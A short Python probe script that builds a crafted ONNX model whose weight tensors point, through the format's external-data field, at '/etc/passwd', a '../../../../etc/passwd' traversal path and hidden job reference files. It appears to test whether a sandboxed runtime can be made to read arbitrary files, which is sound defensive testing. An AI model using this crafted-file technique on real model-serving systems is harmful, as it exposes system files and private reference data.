"""ONNX whose weights lie in a file of the system.

Tries: to have the runtime read a file by its path as if it were weights.
Covers: onnx-external search-filesystem
Road: model onnx
Must: PE
"""

from probe import field, onnx_model, onnx_node, onnx_tensor

places = [
    b"/job/in/inputs.npy",
    b"../../../../etc/passwd",
    b"/etc/passwd",
    b"/job/in/reference/reference.npz",
]
tensors = [
    onnx_tensor(f"w{n}", [4, 3], field(13, field(1, "location") + field(2, place)) + field(14, 1))
    for n, place in enumerate(places)
]
with open("artefact", "wb") as file:
    file.write(onnx_model([onnx_node("MatMul", ["x", "w0"], ["y"])], tensors))
